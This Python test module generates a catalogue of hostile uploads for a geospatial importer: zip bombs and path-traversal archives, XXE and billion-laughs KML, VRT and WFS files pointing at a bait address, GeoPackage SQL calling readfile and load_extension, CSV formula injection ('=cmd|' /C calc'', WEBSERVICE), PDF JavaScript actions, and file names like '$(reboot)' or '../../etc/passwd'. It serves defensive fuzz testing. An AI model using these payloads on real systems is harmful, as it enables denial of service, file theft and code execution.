"""Hostile files over all formats, made by code: what each tries stands in its name.

`hostile_files(bait)` yields at least 120. Each must end in a sentence or in sound layers: within
time and memory, without a request (bait.address), without reading what it was not handed
(bait.canary), without writing beside.
"""

import io
import random
import sqlite3
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import NamedTuple

from tests.hostile_seeds import seeds

POINT = "120.15,30.28"
RING = "[[120.1,30.2],[120.2,30.2],[120.2,30.3],[120.1,30.2]]"


class Bait(NamedTuple):
    """Where nobody may go: an address that somebody listens on, and a file with a secret."""

    address: str
    canary: Path


class Hostile(NamedTuple):
    """Files as they are uploaded together, and the job that they are for, look or picture."""

    title: str
    files: list[tuple[str, bytes]]
    job: str = "look"


def hostile_files(bait: Bait) -> Iterator[Hostile]:
    """Yield every hostile upload, the same in each run but for the bait."""
    for kind in (_archives, _xml, _vrts, _geopackages, _shapefiles, _drawings, _geojsons, _tables,
                 _extracts, _pictures, _names, _broken_seeds):  # fmt: skip
        for title, name, content in kind(bait):
            files = content if isinstance(content, list) else [(name, content)]
            yield Hostile(title, files, "picture" if kind is _pictures else "look")


def hostile_named(title: str, bait: Bait) -> Hostile:
    """Return one hostile upload by its title."""
    return next(case for case in hostile_files(bait) if case.title == title)


Cases = Iterator[tuple[str, str, bytes | list[tuple[str, bytes]]]]


def zipped(*members: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    """Return an archive of members, by name."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, inner in members:
            archive.writestr(name, inner)
    return content.getvalue()


def _geojson(geometry: str, more: str = "", properties: str = '"楼号":"8"') -> bytes:
    feature = f'{{"type":"Feature","properties":{{{properties}}},"geometry":{geometry}}}'
    return f'{{"type":"FeatureCollection",{more}"features":[{feature}]}}'.encode()


def _archives(bait: Bait) -> Cases:
    sound = _geojson(f'{{"type":"Polygon","coordinates":[{RING}]}}')
    yield "zip bomb", "楼栋.zip", zipped(("楼栋.csv", b"0" * 250_000_000))
    nested = sound
    for depth in range(40):
        nested = zipped((f"{depth}.zip", nested))
    yield "zip in zip, forty deep", "楼栋.zip", nested
    many = [(f"{number}.csv", b"a") for number in range(3_000)]
    yield "zip of too many files", "楼栋.zip", zipped(*many)
    for away in (
        "../../楼栋.geojson",
        "/tmp/yinlu-楼栋.geojson",
        "..\\..\\楼栋.geojson",
        "C:/楼栋.csv",
    ):
        yield f"zip that leaves its folder: {away}", "a.zip", zipped((away, sound))
    link = zipfile.ZipInfo("楼栋.geojson")
    link.external_attr = 0o120777 << 16
    yield "zip with a link to a file", "a.zip", zipped((link, str(bait.canary).encode()))
    lying = bytearray(zipped(("楼栋.csv", b"1" * 10_000_000)))
    at = lying.rfind(b"PK\x01\x02")
    lying[at + 24 : at + 28] = struct.pack("<I", 10)
    yield "zip that lies about sizes", "a.zip", bytes(lying)
    body = zipped(("a.csv", b"1" * 100_000))
    start, end = body.find(b"PK\x01\x02"), body.find(b"PK\x05\x06")
    entry = body[start:end]
    overlapping = body[:start] + entry * 60_000
    tail = bytearray(body[end:])
    tail[8:12] = struct.pack("<HH", 60_000, 60_000)
    tail[12:16] = struct.pack("<I", len(entry) * 60_000)
    yield "zip whose entries overlap", "a.zip", overlapping + bytes(tail)
    yield "zip of nothing", "a.zip", zipped()
    yield "kmz without kml", "a.kmz", zipped(("x.txt", b"hello"))
    yield "zip of a zip bomb", "a.zip", zipped(("b.zip", zipped(("c.csv", b"0" * 50_000_000))))
    names = zipped(("a\n\r\x1b[31m.geojson", sound), ("con.geojson", sound))
    yield "zip with newlines in names", "a.zip", names


ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
LAUGHS = f'<!DOCTYPE k [<!ENTITY a0 "ha">{ENTITIES}]>'


def _kml(text: str, doctype: str = "") -> bytes:
    shape = f"<Point><coordinates>{POINT}</coordinates></Point>"
    inner = f"<Folder><name>出入口</name><Placemark><name>{text}</name>{shape}</Placemark></Folder>"
    return f'<?xml version="1.0"?>{doctype}<kml>{inner}</kml>'.encode()


def _xml(bait: Bait) -> Cases:
    external = f'<!DOCTYPE k [<!ENTITY x SYSTEM "file://{bait.canary}">]>'
    web = f'<!DOCTYPE k [<!ENTITY x SYSTEM "{bait.address}/x">]>'
    parameter = f'<!DOCTYPE k [<!ENTITY % x SYSTEM "{bait.address}/x.dtd">%x;]>'
    quadratic = f'<!DOCTYPE k [<!ENTITY x "{"x" * 100_000}">]>'
    for title, content in {
        "reads a file": _kml("&x;", external),
        "asks the web": _kml("&x;", web),
        "asks the web for a DTD": _kml("x", f'<!DOCTYPE k SYSTEM "{bait.address}/k.dtd">'),
        "has a parameter entity": _kml("x", parameter),
        "laughs a billion times": _kml("&a11;", LAUGHS),
        "swells by squares": _kml("&x;" * 20_000, quadratic),
    }.items():
        yield f"kml that {title}", "门.kml", content
        yield f"kmz that {title}", "门.kmz", zipped(("doc.kml", content))
        yield f"osm that {title}", "x.osm", content.replace(b"kml>", b"osm>")
        workbook = zipped(*_workbook(content))
        yield f"xlsx that {title}", "门.xlsx", workbook
    yield (
        "kml with a link",
        "门.kml",
        (
            f"<kml><NetworkLink><Link><href>{bait.address}/a.kml</href></Link></NetworkLink></kml>"
        ).encode(),
    )
    yield "kml a hundred thousand deep", "门.kml", b"<Folder>" * 100_000 + b"</Folder>" * 100_000
    places = ("120,30 " * 400_000).encode()
    line = b"<LineString><coordinates>" + places + b"</coordinates></LineString>"
    yield (
        "kml with a line of 400,000 corners",
        "道路.kml",
        _kml("x").replace(f"<Point><coordinates>{POINT}</coordinates></Point>".encode(), line),
    )
    numbers = "nan,nan inf,-inf 1e999,1e-999 120,30,1,2,3,4"
    yield (
        "kml with numbers that are none",
        "门.kml",
        _kml("x").replace(POINT.encode(), numbers.encode()),
    )


def _workbook(sheet: bytes) -> list[tuple[str | zipfile.ZipInfo, bytes]]:
    """Return a workbook's parts with something else in place of each of its XML files."""
    with zipfile.ZipFile(io.BytesIO(seeds()["门.xlsx"])) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name in ("xl/workbook.xml", "xl/sharedStrings.xml"):
        parts[name] = sheet
    return list(parts.items())


def _vrts(bait: Bait) -> Cases:
    source = f"<SrcDataSource>{bait.canary}</SrcDataSource>"
    web = f"<SrcDataSource>/vsicurl/{bait.address}/x.geojson</SrcDataSource>"
    for inner, what in ((source, "a file"), (web, "the web")):
        layer = f'<OGRVRTLayer name="{bait.canary.stem}">{inner}</OGRVRTLayer>'
        vrt = f"<OGRVRTDataSource>{layer}</OGRVRTDataSource>"
        for ending in ("geojson", "json", "gpkg", "dxf", "kml", "csv", "shp", "vrt", "osm"):
            yield f"{ending} that is a VRT on {what}", f"楼栋.{ending}", vrt.encode()
    wfs = f"<OGRWFSDataSource><URL>{bait.address}</URL></OGRWFSDataSource>".encode()
    yield "geojson that is a WFS", "楼栋.geojson", wfs
    yield (
        "json that is ESRI's, paged",
        "楼栋.json",
        (f'{{"exceededTransferLimit":true,"features":[],"url":"{bait.address}"}}'.encode()),
    )
    yield "csv that names a file", "门.csv", f"/vsicurl/{bait.address}/x.csv".encode()
    yield "json that is an address", "楼栋.json", f'"{bait.address}/x.geojson"'.encode()


def _geopackages(bait: Bait) -> Cases:
    point = "x'" + (b"GP\0\1" + bytes(4) + struct.pack("<BIdd", 1, 1, 120.15, 30.28)).hex() + "'"
    table = "CREATE TABLE gates (fid INTEGER PRIMARY KEY, geom BLOB, 名称 TEXT);"
    rows = f"INSERT INTO gates VALUES (1, {point}, '南门');"
    listed = "INSERT INTO gpkg_geometry_columns VALUES ('gates', 'geom', 'POINT', 4326, 0, 0);"
    away = str(bait.canary).replace("'", "''")
    cases = {
        "has a trigger": "CREATE TRIGGER t AFTER INSERT ON gates BEGIN DELETE FROM gates; END;"
        + rows,
        "has SQL for a name": rows + 'ALTER TABLE gates RENAME TO "a""; DROP TABLE x; --";'
        "UPDATE gpkg_geometry_columns SET table_name = 'a\"; DROP TABLE x; --';",
        "has a huge cell": "INSERT INTO gates VALUES (1, zeroblob(60000000), 'x');",
        "has a long text": f"INSERT INTO gates VALUES (1, {point}, hex(zeroblob(3000000)));",
        "has a point in nowhere": "INSERT INTO gates VALUES (1, x'47500001ffffffff', 'x');",
        "has a CRS that is a file": rows + "UPDATE gpkg_spatial_ref_sys SET organization='x', "
        f"definition='+proj=longlat +nadgrids={away}' WHERE srs_id = 4326;",
        "has a CRS from the web": rows + "UPDATE gpkg_spatial_ref_sys SET organization='x', "
        f"definition='{bait.address}/crs.wkt' WHERE srs_id = 4326;",
        "names itself twice": rows + listed,
        "has a column that counts itself": "ALTER TABLE gates ADD COLUMN g TEXT GENERATED ALWAYS "
        f"AS (printf('%.*c', 90000000, 'x')) VIRTUAL;{rows}",
    }
    views = {
        "is a view": f"SELECT 1 AS fid, {point} AS geom, '南门' AS 名称",
        "asks the web where": f"SELECT 1 AS fid, ogr_geocode('{bait.address}') AS geom",
        "reads a file": f"SELECT 1 AS fid, readfile('{away}') AS geom",
        "loads code": f"SELECT 1 AS fid, load_extension('{away}') AS geom",
        "never ends": "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) "
        f"SELECT x AS fid, {point} AS geom FROM c",
    }
    for title, script in cases.items():
        yield f"gpkg that {title}", "门.gpkg", _database(table + listed + script)
    for title, view in views.items():
        script = f"CREATE VIEW gates AS {view};{listed}"
        yield f"gpkg that {title}", "门.gpkg", _database(script)
    virtual = "CREATE VIRTUAL TABLE gates USING fts5(geom, 名称);" + listed
    yield "gpkg with a virtual table", "门.gpkg", _database(virtual)
    deep = b"GP\0\1" + bytes(4) + struct.pack("<BII", 1, 7, 1) * 200_000
    nested = f"INSERT INTO gates VALUES (1, x'{deep.hex()}', 'x');"
    yield "gpkg with collections 200,000 deep", "门.gpkg", _database(table + listed + nested)
    lying = b"GP\0\1" + bytes(4) + struct.pack("<BII", 1, 2, 0xFFFFFFFF)
    counts = f"INSERT INTO gates VALUES (1, x'{lying.hex()}', 'x');"
    yield "gpkg with a line of 4 billion corners", "门.gpkg", _database(table + listed + counts)
    sound = bytearray(_database(table + listed + rows))
    for place in range(100, len(sound), 37):
        sound[place] ^= 0x5A
    yield "gpkg with bits turned", "门.gpkg", bytes(sound)


def _database(script: str) -> bytes:
    base = """
        CREATE TABLE gpkg_contents (table_name TEXT, data_type TEXT, identifier TEXT, srs_id INT);
        CREATE TABLE gpkg_geometry_columns (table_name TEXT, column_name TEXT,
            geometry_type_name TEXT, srs_id INT, z INT, m INT);
        CREATE TABLE gpkg_spatial_ref_sys (srs_name TEXT, srs_id INTEGER PRIMARY KEY,
            organization TEXT, organization_coordsys_id INT, definition TEXT);
        INSERT INTO gpkg_spatial_ref_sys VALUES ('WGS 84', 4326, 'EPSG', 4326, '');
        INSERT INTO gpkg_contents VALUES ('gates', 'features', 'gates', 4326);
        PRAGMA application_id = 1196444487;
    """
    with TemporaryDirectory() as folder:
        path = Path(folder) / "x.gpkg"
        connection = sqlite3.connect(path)
        connection.executescript(base + script)
        connection.close()
        return path.read_bytes()


def _shapefiles(bait: Bait) -> Cases:
    parts = {name: seeds()[f"楼栋.{name}"] for name in ("shp", "shx", "dbf")}

    def files(**changed: bytes) -> list[tuple[str, bytes]]:
        return [(f"楼栋.{name}", content) for name, content in {**parts, **changed}.items()]

    def patched(part: str, place: int, content: bytes) -> list[tuple[str, bytes]]:
        whole = parts[part]
        return files(**{part: whole[:place] + content + whole[place + len(content) :]})

    big, most = struct.pack(">i", 0x7FFFFFFF), struct.pack("<I", 0xFFFFFFFF)
    yield "shp of a lying length", "", patched("shp", 24, big)
    yield "shp of an unknown kind", "", patched("shp", 32, struct.pack("<i", 31))
    yield "shp whose record is too long", "", patched("shp", 104, big)
    yield "shp whose polygon has 4 billion parts", "", patched("shp", 144, most)
    yield "shp whose polygon has 4 billion corners", "", patched("shp", 148, most)
    yield "shp with numbers that are none", "", patched("shp", 160, struct.pack("<d", float("nan")))
    yield "shx that points beyond", "", patched("shx", 100, big)
    yield "shx that points before", "", patched("shx", 100, struct.pack(">i", -8))
    yield "shx of 500 million records", "", patched("shx", 24, struct.pack(">i", 2_000_000_050))
    yield "dbf of 4 billion records", "", patched("dbf", 4, most)
    yield "dbf with a header of 65,535 bytes", "", patched("dbf", 8, b"\xff\xff")
    yield "dbf with records of no length", "", patched("dbf", 10, b"\0\0")
    yield "dbf with records of one byte", "", patched("dbf", 10, b"\1\0")
    yield "dbf with a field too wide", "", patched("dbf", 48, b"\xff")
    yield "dbf with fields of unknown kinds", "", patched("dbf", 43, b"@")
    yield "dbf that is a memo", "", patched("dbf", 0, b"\x83")
    yield "shp without its parts", "楼栋.shp", parts["shp"]
    yield "dbf on its own", "楼栋.dbf", parts["dbf"]
    grids = f'EXTENSION["PROJ4_GRIDS","{bait.canary}"]'
    prj = f'PROJCS["x",GEOGCS["y",DATUM["z",SPHEROID["s",1,0],{grids}'
    yield "prj that is cut off", "", files(prj=prj.encode())
    yield "prj that is an address", "", files(prj=f"{bait.address}/x.prj".encode())
    yield "prj of brackets", "", files(prj=b"GEOGCS[" * 50_000)
    yield "cpg of nonsense", "", files(cpg=b"../../etc/passwd\0")
    yield "with an index of rubbish", "", files(sbn=b"\xff" * 5_000)


def _drawings(bait: Bait) -> Cases:
    def drawing(blocks: str, entities: str) -> bytes:
        parts = f"0\nSECTION\n2\nBLOCKS\n{blocks}0\nENDSEC\n0\nSECTION\n2\nENTITIES\n{entities}"
        return f"{parts}0\nENDSEC\n0\nEOF\n".encode()

    def insert(name: str) -> str:
        return f"0\nINSERT\n8\n楼栋\n2\n{name}\n10\n0\n20\n0\n"

    def block(name: str, inside: str) -> str:
        return f"0\nBLOCK\n8\n0\n2\n{name}\n10\n0\n20\n0\n{inside}0\nENDBLK\n"

    line = "0\nLINE\n8\n楼栋\n10\n1\n20\n1\n11\n2\n21\n2\n"
    yield "dxf of a block in itself", "楼栋.dxf", drawing(block("A", insert("A")), insert("A"))
    circle = block("A", insert("B")) + block("B", insert("A"))
    yield "dxf of blocks in each other", "楼栋.dxf", drawing(circle, insert("A"))
    tower = block("B0", line) + "".join(
        block(f"B{n}", insert(f"B{n - 1}") * 10) for n in range(1, 10)
    )
    yield "dxf of ten billion lines in blocks", "楼栋.dxf", drawing(tower, insert("B9"))
    rows = insert("A") + "70\n30000\n71\n30000\n44\n1\n45\n1\n"
    yield "dxf of a block 900 million times", "楼栋.dxf", drawing(block("A", line), rows)
    yield (
        "dxf with a lying count",
        "楼栋.dxf",
        drawing("", "0\nLWPOLYLINE\n8\n楼栋\n90\n2000000000\n70\n1\n10\n1\n20\n1\n"),
    )
    spline = "0\nSPLINE\n8\n楼栋\n71\n30000\n72\n2000000000\n73\n2000000000\n10\n1\n20\n1\n"
    yield "dxf with a spline of two billion knots", "楼栋.dxf", drawing("", spline)
    arc = "0\nARC\n8\n楼栋\n10\n1\n20\n1\n40\n1e308\n50\n0\n51\n1e300\n"
    yield "dxf with an endless arc", "楼栋.dxf", drawing("", arc)
    yield (
        "dxf with numbers that are none",
        "楼栋.dxf",
        drawing("", line.replace("\n1\n", "\nnan\n")),
    )
    yield "dxf of one endless line", "楼栋.dxf", b"0\nSECTION\n2\n" + b"A" * 5_000_000
    image = f"0\nIMAGEDEF\n1\n{bait.canary}\n0\nXREF\n1\n{bait.canary}\n"
    yield "dxf that names files", "楼栋.dxf", drawing("", image + line)
    yield "dxf of a program for machines", "楼栋.dxf", b"AutoCAD Binary DXF\r\n\x1a\0" + bytes(500)


def _geojsons(bait: Bait) -> Cases:
    polygon = f'{{"type":"Polygon","coordinates":[{RING}]}}'
    yield "geojson of 200,000 brackets", "楼栋.geojson", b"[" * 200_000 + b"]" * 200_000
    deep = '{"type":"GeometryCollection","geometries":[' * 5_000 + polygon + "]}" * 5_000
    yield "geojson of collections in collections", "楼栋.geojson", _geojson(deep)
    objects = '{"a":' * 50_000 + "1" + "}" * 50_000
    yield (
        "geojson of deep properties",
        "楼栋.geojson",
        _geojson(polygon, properties=f'"a":{objects}'),
    )
    corners = ",".join(f"[120.{n % 997:03},30.{n % 991:03}]" for n in range(1_000_000))
    yield (
        "geojson of a million corners",
        "道路.geojson",
        _geojson(f'{{"type":"LineString","coordinates":[{corners}]}}'),
    )
    feature = f'{{"type":"Feature","properties":{{}},"geometry":{polygon}}}'
    many = ",".join([feature] * 120_000)
    yield (
        "geojson of 120,000 houses",
        "楼栋.geojson",
        (f'{{"type":"FeatureCollection","features":[{many}]}}'.encode()),
    )
    for value in ("NaN", "Infinity", "-Infinity", "1e400", "1e308", "9" * 5_000, "1e-99999999999"):
        shape = f'{{"type":"Point","coordinates":[{value},30.28]}}'
        yield f"geojson at {value[:12]}", "门.geojson", _geojson(shape)
    yield (
        "geojson with equal keys",
        "楼栋.geojson",
        _geojson(
            polygon + f',"geometry":null,"geometry":{polygon}', properties='"楼号":"8","楼号":"9"'
        ),
    )
    crs = f'"crs":{{"type":"link","properties":{{"href":"{bait.address}/crs","type":"proj4"}}}},'
    yield "geojson whose CRS is a link", "楼栋.geojson", _geojson(polygon, crs)
    for code in ("urn:ogc:def:crs:EPSG::999999", f"{bait.address}/4326", str(bait.canary)):
        named = f'"crs":{{"type":"name","properties":{{"name":"{code}"}}}},'
        yield f"geojson whose CRS is {code[:8]}", "楼栋.geojson", _geojson(polygon, named)
    yield "geojson of an address", "楼栋.geojson", f"/vsicurl/{bait.address}/x.geojson".encode()
    yield (
        "geojson with a text of 30 MB",
        "楼栋.geojson",
        _geojson(polygon, properties=f'"备注":"{"长" * 10_000_000}"'),
    )
    wide = ",".join(f'"c{n}":1' for n in range(20_000))
    yield "geojson of 20,000 columns", "楼栋.geojson", _geojson(polygon, properties=wide)
    yield (
        "geojson with half a letter",
        "楼栋.geojson",
        _geojson(polygon, properties='"名称":"\\ud800","楼号":"\\u0000"'),
    )
    yield (
        "geojson with a ring of one",
        "楼栋.geojson",
        _geojson('{"type":"Polygon","coordinates":[[[120,30]]]}'),
    )
    yield "geojson of unknown shapes", "楼栋.geojson", _geojson('{"type":"Blob","coordinates":{}}')
    yield "geojson of a list", "楼栋.geojson", b"[1, 2, 3]"
    yield (
        "geojson that speaks of scripts",
        "楼栋.geojson",
        _geojson(polygon, properties='"楼号":"<script>alert(1)</script>{{6*7}}"'),
    )


def _tables(bait: Bait) -> Cases:
    yield "csv of a million columns", "门.csv", b"a," * 1_000_000 + b"\n" + b"1," * 1_000_000
    yield "csv of one cell", "门.csv", b"lon,lat,name\n120,30," + b"x" * 60_000_000
    yield "csv of an open quote", "门.csv", b'lon,lat,name\n120,30,"' + b"x\n" * 5_000_000
    yield (
        "csv of formulas",
        "门.csv",
        (
            "名称,lon,lat\n=cmd|' /C calc'!A0,120.15,30.28\n"
            f'=WEBSERVICE("{bait.address}"),120.15,30.28'
        ).encode(),
    )
    yield "csv of NULs", "门.csv", b"lon,lat,name\n120.15,30.28,\0\0\0\n" + b"\0" * 100_000
    yield "csv of delimiters", "门.csv", b",;\t|" * 3_000_000
    yield "csv of lines", "门.csv", b"lon,lat\n" + b"120.15,30.28\n" * 300_000
    deep = "GEOMETRYCOLLECTION(" * 100_000 + "POINT(1 1)" + ")" * 100_000
    yield "csv with WKT of collections", "门.csv", f'名称;wkt\nx;"{deep}"'.encode()
    yield "csv with WKT of nothing", "门.csv", b"name;wkt\nx;POLYGON((nan nan, inf inf, 1 1))"
    yield "csv with endless numbers", "门.csv", b"lon,lat\n" + b"9" * 100_000 + b",30"
    yield "csv in UTF-16 by half", "门.csv", b"\xff\xfel\0o\0n\0,\0l\0a\0t\0\n"
    yield "csv in UTF-7", "门.csv", b"lon,lat,name\n120.15,30.28,+ADw-script+AD4-"
    yield (
        "csv of signs turned around",
        "门.csv",
        "lon,lat,名称\n120.15,30.28,\u202etxt.exe".encode(),
    )
    dimension = b'<dimension ref="A1:XFD1048576"/>'
    sheet = b"<worksheet>" + dimension + b'<sheetData><row r="1048576"><c r="XFD1048576"/></row>'
    with zipfile.ZipFile(io.BytesIO(seeds()["门.xlsx"])) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["xl/worksheets/sheet1.xml"] = sheet + b"</sheetData></worksheet>"
    yield "xlsx that lies about its size", "门.xlsx", zipped(*parts.items())
    parts["xl/worksheets/sheet1.xml"] = (
        b"<worksheet><sheetData>"
        + (b'<row><c t="inlineStr"><is><t>' + b"x" * 1_000 + b"</t></is></c></row>") * 100_000
    )
    yield "xlsx of 100 MB in a small file", "门.xlsx", zipped(*parts.items())
    links = f'<Relationships><Relationship Id="a" Target="{bait.address}" TargetMode="External"/>'
    parts["xl/_rels/workbook.xml.rels"] = links.encode()
    yield "xlsx with links elsewhere", "门.xlsx", zipped(*parts.items())


def _extracts(bait: Bait) -> Cases:
    def osm(inner: str) -> bytes:
        return f'<osm version="0.6">{inner}</osm>'.encode()

    node = '<node id="{}" lat="{}" lon="{}" version="1"/>'
    yield (
        "osm of a way with itself",
        "x.osm",
        osm(
            '<relation id="1"><member type="relation" ref="1" role=""/>'
            '<tag k="type" v="multipolygon"/><tag k="building" v="yes"/></relation>'
        ),
    )
    places = "".join(node.format(n, 30 + n / 1e6, 120) for n in range(1, 3))
    way = "".join(f'<nd ref="{n % 2 + 1}"/>' for n in range(200_000))
    yield (
        "osm of a way to and fro",
        "x.osm",
        osm(f'{places}<way id="1">{way}<tag k="highway" v="footway"/></way>'),
    )
    yield "osm beyond the world", "x.osm", osm(node.format(1, 9e9, "nan") + node.format(2, 91, 181))
    yield "osm of numbers too large", "x.osm", osm(node.format(10**30, 30, 120))
    tags = "".join(f'<tag k="k{n}" v="{"v" * 200}"/>' for n in range(50_000))
    house = f"{node.format(1, 30, 120).replace('/>', '>')}{tags}</node>"
    yield "osm with 50,000 tags", "x.osm", osm(house)
    yield "osm that is cut off", "x.osm", osm(places)[:-40]
    yield "osm deep in itself", "x.osm", b"<osm>" + b"<node>" * 100_000
    blob = zlib.compress(b"\0" * 100_000_000, 9)
    head = b"\n\x09OSMHeader\x18" + _varint(len(blob) + 8)
    body = b"\x10" + _varint(100_000_000) + b"\x1a" + _varint(len(blob)) + blob
    yield "pbf that swells", "x.osm.pbf", struct.pack(">I", len(head)) + head + body
    yield "pbf with a lying head", "x.osm.pbf", struct.pack(">I", 0xFFFFFFFF) + b"x" * 100
    yield "gz that swells", "x.osm.gz", _gzip(b"<osm>" + b" " * 150_000_000)
    yield "bz2 of rubbish", "x.osm.bz2", b"BZh91AY&SY" + b"\xff" * 1_000


def _varint(number: int) -> bytes:
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def _gzip(content: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return packer.compress(content) + packer.flush()


def _png(width: int, height: int, rows: bytes = b"") -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        check = zlib.crc32(kind + content)
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    text = b"a\0\0" + zlib.compress(b"x" * 80_000_000, 9)
    parts = chunk(b"IHDR", head) + chunk(b"zTXt", text) + chunk(b"IDAT", rows)
    return b"\x89PNG\r\n\x1a\n" + parts + chunk(b"IEND", b"")


def _pictures(bait: Bait) -> Cases:
    yield "png of 10 gigapixels", "a.png", _png(100_000, 100_000, zlib.compress(bytes(10**7), 9))
    yield "png of 2 billion a side", "a.png", _png(0x7FFFFFFF, 0x7FFFFFFF)
    yield (
        "png of 90 megapixels of nothing",
        "a.png",
        _png(9_000, 10_000, zlib.compress(bytes(9_001 * 10_000), 9)),
    )
    yield "png of no size", "a.png", _png(0, 0)
    yield "png that is cut off", "a.png", seeds()["plan.png"][:200]
    yield "jpg that is cut off", "a.jpg", seeds()["plan.jpg"][:400]
    yield (
        "jpg of 65,535 a side",
        "a.jpg",
        seeds()["plan.jpg"].replace(
            b"\xff\xc0\x00\x11\x08", b"\xff\xc0\x00\x11\x08\xff\xff\xff\xff", 1
        ),
    )
    yield "svg", "a.svg", f'<svg><image href="{bait.address}/a.png"/></svg>'.encode()
    yield "svg that is called png", "a.png", f'<svg><image href="{bait.canary}"/></svg>'.encode()
    yield "html that is called jpg", "a.jpg", b"<html><script>alert(1)</script>"
    yield "tiff of lies", "a.tif", b"II*\0\x08\0\0\0\xff\xff" + b"\0\1\4\0\xff\xff\xff\xff" * 50
    yield "gif of lies", "a.gif", b"GIF89a\xff\xff\xff\xff\xf7\0\0" + bytes(800)
    yield "webp of lies", "a.webp", b"RIFF\xff\xff\xff\xffWEBPVP8X\x0a\0\0\0" + b"\xff" * 60
    yield "postscript", "a.png", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(x) run"
    yield "a picture that is an archive", "a.jpg", zipped(("a.jpg", b"x"))
    yield (
        "pdf of no page",
        "a.pdf",
        b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj trailer<</Root 1 0 R>>",
    )
    yield "pdf that is cut off", "a.pdf", b"%PDF-1.7\n"
    for title, box, content in (
        ("of a page as large as a country", "0 0 99999999 99999999", "0 0 m"),
        ("of a page without width", "0 0 0 800", ""),
        ("of a page turned inside out", "800 800 0 0", ""),
        ("of a million squares", "0 0 800 800", "q 1 0 0 RG 0 0 800 800 re f Q " * 300_000),
    ):
        yield f"pdf {title}", "a.pdf", _pdf(box, content, "")
    action = (
        f"/OpenAction<</S/URI/URI({bait.address}/pdf)>>/AA<</O<</S/JavaScript/JS(app.alert(1))>>>>"
    )
    yield "pdf that acts", "a.pdf", _pdf("0 0 600 800", "0 0 m", action)
    yield "pdf of a bomb", "a.pdf", _pdf("0 0 600 800", "q " * 30_000_000, "")
    loop = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]"
    yield "pdf of pages in pages", "a.pdf", loop + b"/Count 9999999>>endobj\ntrailer<</Root 1 0 R>>"


def _pdf(box: str, content: str, more: str) -> bytes:
    packed = zlib.compress(content.encode(), 9)
    return (
        f"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R{more}>>endobj\n"
        "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        f"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R>>endobj\n"
        f"4 0 obj<</Length {len(packed)}/Filter/FlateDecode>>stream\n".encode()
        + packed
        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )


def _names(bait: Bait) -> Cases:
    sound = _geojson(f'{{"type":"Polygon","coordinates":[{RING}]}}')
    for name in (
        str(bait.canary), "../../../楼栋.geojson", "/vsicurl/楼栋.geojson", "楼栋\n.geojson",
        "楼栋\0.geojson", "楼栋\u202enosjoeg.geojson", ".geojson", "", "楼" * 500 + ".geojson",
        "con.geojson", "楼栋.geojson.exe", "-rf.geojson", "json.py", "$(reboot)楼栋.geojson",
        f"/vsizip/{bait.canary}", "楼栋.GEOJSON", "answer.json", "楼栋.geojson?x=1#y",
    ):  # fmt: skip
        yield f"a file called {name[:24]!r}", name, sound
    python = b"open('/tmp/yinlu-was-here', 'w')"
    for name in ("json.py", "sitecustomize.py", "numpy.pth", "conftest.py"):
        yield f"code beside a map: {name}", "", [(name, python), ("楼栋.geojson", sound)]
    yield "the same name twice", "", [("楼栋.geojson", sound), ("楼栋.geojson", sound)]
    yield "sixty files at once", "", [(f"楼栋{n}.geojson", sound) for n in range(60)]


def _broken_seeds(bait: Bait) -> Cases:
    dice = random.Random(5)
    spoil: dict[str, Callable[[bytes], bytes]] = {
        "cut off": lambda content: content[: len(content) * 3 // 5],
        "random": lambda content: dice.randbytes(4_000),
        "spoilt": lambda content: bytes(
            byte ^ dice.randrange(256) if dice.random() < 0.01 else byte for byte in content
        ),
    }
    whole = {name: content for name, content in seeds().items() if "plan" not in name}
    for name, content in whole.items():
        for how, change in spoil.items():
            parts = [(name, change(content))]
            if name.startswith("楼栋.sh") or name.endswith(".dbf"):
                rest = ((f"楼栋.{part}", whole[f"楼栋.{part}"]) for part in ("shp", "shx", "dbf"))
                parts += [(other, inner) for other, inner in rest if other != name]
            yield f"{name} {how}", "", parts
    names = [name for name in whole if "楼栋.s" not in name and not name.endswith(".dbf")]
    for name, other in zip(names, names[1:] + names[:1], strict=True):
        yield f"{name} that is a {other}", name, whole[other]
